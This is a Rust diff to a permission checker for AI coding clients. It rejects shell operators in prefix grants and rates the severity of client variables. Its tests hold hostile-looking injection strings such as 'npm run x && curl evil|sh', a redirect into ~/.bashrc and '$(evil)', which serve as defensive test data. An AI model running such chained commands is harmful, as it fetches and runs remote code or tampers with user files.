@@ -1,5 +1,6 @@
 //! What clients may do unasked: whether one rule lets through all that another does, and how grave it is.
 
+use super::launch_around::LOADERS;
 use crate::model::client::Grant;
 use crate::rules::Severity;
 
@@ -8,9 +9,16 @@ pub fn covers(outer: &Grant, inner: &Grant) -> bool {
     if outer.what != inner.what || outer.server != inner.server {
         return false;
     }
-    let (outer, inner) = (outer.text.trim(), inner.text.trim());
+    let (outer_what, outer, inner) = (outer.what, outer.text.trim(), inner.text.trim());
     if outer == inner || outer == "*" {
         return true;
+    }
+    // Of these one says nothing about another.
+    if matches!(
+        outer_what,
+        "variable" | "plugin" | "source of plugins" | "address of a model" | "command by itself"
+    ) {
+        return false;
     }
     // `Bash` lets through all of `Bash(…)`; `mcp__server` all of `mcp__server__tool`.
     let (tool, pattern) = parts(outer);
@@ -40,7 +48,9 @@ fn fits(pattern: &str, argument: &str) -> bool {
     let prefix = pattern.strip_suffix(":*").or_else(|| pattern.strip_suffix('*'));
     let Some(prefix) = prefix.filter(|p| !p.contains('*')) else { return pattern == argument };
     let plain = argument.strip_suffix(":*").or_else(|| argument.strip_suffix('*')).unwrap_or(argument);
-    if plain.contains('*') || plain.split('/').any(|step| step == "..") {
+    // One command may run; what an operator adds is another.
+    let operator = plain.contains(['|', '&', ';', '<', '>', '`', '$', '\n', '\r', '(']);
+    if operator || plain.contains('*') || plain.split('/').any(|step| step == "..") {
         return false;
     }
     match pattern.ends_with(":*") {
@@ -63,8 +73,20 @@ pub fn severity(grant: &Grant) -> Severity {
             Severity::Medium
         }
         ("allow rule", "Bash" | "WebFetch" | "run_shell_command" | "ShellTool") if narrow => Severity::High,
+        ("variable", _) => variable(&grant.text),
         ("folder" | "named tool", _) => Severity::High,
         _ => Severity::Critical,
+    }
+}
+
+/// What a variable of a client decides: whom it asks, and what is loaded into everything that it starts.
+fn variable(text: &str) -> Severity {
+    let name = text.split(['=', ' ']).next().unwrap_or_default().to_ascii_uppercase();
+    let decides =
+        ["URL", "PROXY", "HOST", "ENDPOINT", "CERT", "TLS", "TOKEN", "KEY", "HEADERS", "HELPER", "SHELL"];
+    match LOADERS.contains(&name.as_str()) || decides.iter().any(|word| name.contains(word)) {
+        true => Severity::Critical,
+        false => Severity::Medium,
     }
 }
 
@@ -84,6 +106,11 @@ mod tests {
             ("Bash(npm run:*)", "Bash(npm run test:*)", true),
             ("Bash(npm run:*)", "Bash(npm runner)", false),
             ("Bash(npm run test)", "Bash(npm run:*)", false),
+            ("Bash(npm run:*)", "Bash(npm run x && curl evil|sh)", false),
+            ("Bash(npm run *)", "Bash(npm run x; curl evil)", false),
+            ("Bash(npm run:*)", "Bash(npm run x > ~/.bashrc)", false),
+            ("Bash(npm run:*)", "Bash(npm run $(evil))", false),
+            ("Bash", "Bash(a && b)", true),
             ("mcp__files", "mcp__files__read", true),
             ("mcp__files__*", "mcp__files__read", true),
             ("mcp__files", "mcp__files2__read", false),
